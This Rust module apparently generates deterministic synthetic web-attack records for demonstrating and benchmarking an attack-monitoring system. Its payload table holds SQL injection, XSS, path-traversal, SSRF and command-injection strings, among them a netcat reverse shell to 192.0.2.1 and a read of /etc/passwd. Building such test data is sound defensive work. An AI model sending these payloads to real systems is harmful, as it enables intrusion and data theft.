//! Synthetic attacks for demonstrations and benchmarks: scanners that send many payloads from a few
//! addresses, within minutes, to a few applications. Three in ten attacks are suspicious.
//! Deterministic: the same number gives the same records.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};
use shared::{Confidence, IngestBatch, Outcome, Record, ScorePart, record::NodeInfo};
use uuid::Uuid;

/// The time range of the attacks.
const DAYS: u64 = 30;
const HOSTS: [&str; 5] =
    ["shop.example.com", "api.example.com", "www.example.com", "admin.example.net", "blog.example.org"];
const PATHS: [&str; 8] = [
    "/",
    "/search",
    "/login",
    "/api/v1/orders",
    "/api/v1/users/17",
    "/cart/items",
    "/wp-login.php",
    "/graphql",
];
const AGENTS: [&str; 4] = ["Mozilla/5.0", "curl/8.0", "sqlmap/1.8", "python-requests/2.32"];

/// Countries of the sources.
const COUNTRIES: [&str; 8] = ["US", "CN", "DE", "RU", "BR", "NL", "IN", "VN"];

/// Response statuses of the origin.
const STATUSES: [u16; 6] = [200, 200, 302, 400, 404, 500];

/// Type, severity, point and payloads. `#` is replaced by a unique number: some tools never send
/// the same payload twice.
type SeedKind = (&'static str, &'static str, &'static str, [&'static str; 3]);

const KINDS: [SeedKind; 7] = [
    ("sqli", "high", "id", ["1' or '1'='1", "1 union select null,version()", "1' and #=# -- "]),
    (
        "xss",
        "high",
        "q",
        ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)"],
    ),
    ("ptrav", "high", "file", ["../../../../etc/passwd", "..\\..\\boot.ini", "/proc/self/environ"]),
    (
        "rce",
        "critical",
        "cmd",
        [";cat /etc/passwd", ";nslookup #.example.net", "|nc 192.0.2.1 4444 -e /bin/sh"],
    ),
    (
        "ssrf",
        "medium",
        "url",
        ["http://169.254.169.254/latest/meta-data/", "file:///etc/hosts", "http://#.example.net/"],
    ),
    ("nosqli", "high", "user", ["{\"$ne\":null}", "{\"$gt\":\"\"}", "';return true;//"]),
    ("scanner", "low", "probe", ["nikto", "nuclei", "acunetix"]),
];

/// The node that delivers the records.
pub fn node() -> NodeInfo {
    NodeInfo { id: Uuid::nil(), version: env!("CARGO_PKG_VERSION").to_owned(), is_command: false }
}

/// Batches of this number of hits, with response reports. The last attack ends about `now`.
pub fn batches(hits: u64, batch: u64, now: Timestamp) -> impl Iterator<Item = Vec<Record>> {
    let mut attacks =
        Attacks { random: Random(1), attack: AttackTemplate::default(), left: 0, created: 0, hits, now };
    let batch = usize::try_from(batch).unwrap_or(usize::MAX);
    std::iter::from_fn(move || {
        let records: Vec<Record> = attacks.by_ref().take(batch).flatten().collect();
        (!records.is_empty()).then_some(records)
    })
}

/// A delivery of such records.
pub fn delivery(records: &[Record]) -> Result<IngestBatch, serde_json::Error> {
    let records = records.iter().map(serde_json::value::to_raw_value).collect::<Result<_, _>>()?;
    Ok(IngestBatch { node: node(), status: None, records })
}

/// A deterministic pseudo-random generator (`SplitMix64`).
struct Random(u64);

impl Random {
    fn below(&mut self, limit: u64) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mixed = (self.0 ^ (self.0 >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        let mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        (mixed ^ (mixed >> 31)) % limit
    }

    fn pick<T: Copy, const N: usize>(&mut self, from: [T; N]) -> T {
        from[usize::try_from(self.below(N as u64)).unwrap_or_default() % N]
    }
}

/// The common fields of the hits of one attack.
#[derive(Clone, Copy)]
struct AttackTemplate {
    kind: SeedKind,
    host: &'static str,
    path: &'static str,
    agent: &'static str,
    network: u64,
    outcome: Outcome,
    at: Timestamp,
}

impl Default for AttackTemplate {
    fn default() -> Self {
        let (kind, host, path, agent) = (KINDS[0], HOSTS[0], PATHS[0], AGENTS[0]);
        Self { kind, host, path, agent, network: 0, outcome: Outcome::Monitored, at: Timestamp::UNIX_EPOCH }
    }
}

struct Attacks {
    random: Random,
    attack: AttackTemplate,
    /// The remaining hits of the attack.
    left: u64,
    /// The number of created hits.
    created: u64,
    hits: u64,
    now: Timestamp,
}

impl Iterator for Attacks {
    type Item = Vec<Record>;

    fn next(&mut self) -> Option<Vec<Record>> {
        if self.created == self.hits {
            return None;
        }
        if self.left == 0 {
            self.begin_attack();
        }
        self.left -= 1;
        self.created += 1;
        self.attack.at +=
            SignedDuration::from_millis(i64::try_from(self.random.below(9_000)).unwrap_or_default());
        let records = self.records().into_iter();
        records.map(serde_json::from_value).collect::<Result<_, _>>().ok()
    }
}

impl Attacks {
    fn begin_attack(&mut self) {
        let random = &mut self.random;
        // Most attacks are short, some are long.
        let most = random.pick([2, 4, 8, 40, 200]);
        self.left = 1 + random.below(most);
        // In the order of time, spread evenly over the hits.
        let span = DAYS * 24 * 3_600_000;
        let offset = i64::try_from(span - span / self.hits.max(1) * self.created).unwrap_or_default();
        self.attack = AttackTemplate {
            kind: random.pick(KINDS),
            host: random.pick(HOSTS),
            path: random.pick(PATHS),
            agent: random.pick(AGENTS),
            network: random.below(3_000),
            outcome: match random.below(20) {
                0..6 => Outcome::Suspicious,
                6..10 => Outcome::Monitored,
                _ => Outcome::Blocked,
            },
            at: self.now - SignedDuration::from_millis(offset),
        };
    }

    /// A version 7 id, as nodes assign: ids are in the order of time.
    fn hit_id(&mut self, at: Timestamp) -> Uuid {
        let mut random = [0; 10];
        random[..8].copy_from_slice(&self.random.below(u64::MAX).to_be_bytes());
        let millis = u64::try_from(at.as_millisecond()).unwrap_or_default();
        uuid::Builder::from_unix_timestamp_millis(millis, &random).into_uuid()
    }

    fn records(&mut self) -> Vec<Value> {
        let AttackTemplate {
            kind: (code, severity, parameter, payloads),
            host,
            path,
            agent,
            network,
            outcome,
            at,
        } = self.attack;
        let payload = self.random.pick(payloads).replace('#', &self.random.below(1 << 32).to_string());
        let address = format!("198.{}.{}.{}", 18 + network % 2, network / 16 % 256, self.random.below(4) + 1);
        let country = COUNTRIES[usize::try_from(network).unwrap_or_default() % COUNTRIES.len()];
        let (mode, enforced) =
            if outcome == Outcome::Blocked { ("block", "yes") } else { ("monitoring", "no") };
        let is_suspicious = outcome == Outcome::Suspicious;
        let reason = (!is_suspicious).then_some("attack");
        let confidence = if is_suspicious { Confidence::Low } else { Confidence::High };
        let point = json!([["get", parameter]]);
        let finding = json!({
            "type": code, "point": point, "signature": format!("{code}-seed"), "severity": severity, "payload": payload,
            "span": [0, payload.len()], "score": [ScorePart::of_rule(confidence)],
        });
        let request_id =
            format!("{:032x}", u128::from(self.created) + (u128::from(self.random.below(u64::MAX)) << 64));
        let attack = json!({"attack": {
            "request": {
                "request_id": request_id,
                "at": at, "client_ip": address, "method": "GET", "host": host, "path": path,
                "query": format!("{parameter}={payload}"),
                "headers": [["host", host], ["user-agent", agent], ["accept", "*/*"], ["x-forwarded-for", address]],
            },
            "decision": {
                "outcome": outcome, "reason": reason, "mode": mode, "mode_source": "config", "delivery": "inline",
                "enforced": enforced,
            },
            "location": {"country": country, "asn": 64_496 + network % 500},
            "hits": [{"id": self.hit_id(at), "type": code, "point": point, "findings": [finding]}],
        }});
        let status = self.random.pick(STATUSES);
        let response = json!({"response": {"request_id": request_id, "status": status}});
        if outcome == Outcome::Blocked { vec![attack] } else { vec![attack, response] }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_records_have_the_requested_number_and_are_deterministic() {
        let now = Timestamp::UNIX_EPOCH + SignedDuration::from_hours(24 * 365);
        let created: Vec<_> = batches(1_050, 500, now).collect();
        let hits = |batch: &Vec<Record>| batch.iter().filter(|it| matches!(it, Record::Attack(_))).count();
        assert_eq!(created.iter().map(hits).collect::<Vec<_>>(), [500, 500, 50]);
        assert_eq!(created, batches(1_050, 500, now).collect::<Vec<_>>());
    }

    #[test]
    fn about_three_in_ten_hits_are_suspicious() {
        let records: Vec<_> = batches(20_000, 20_000, Timestamp::UNIX_EPOCH).flatten().collect();
        let outcomes = records.iter().filter_map(|record| match record {
            Record::Attack(attack) => Some(attack.decision.outcome),
            _ => None,
        });
        let suspicious = outcomes.filter(|outcome| *outcome == Outcome::Suspicious).count();
        assert!((5_000..7_000).contains(&suspicious), "{suspicious}");
    }
}
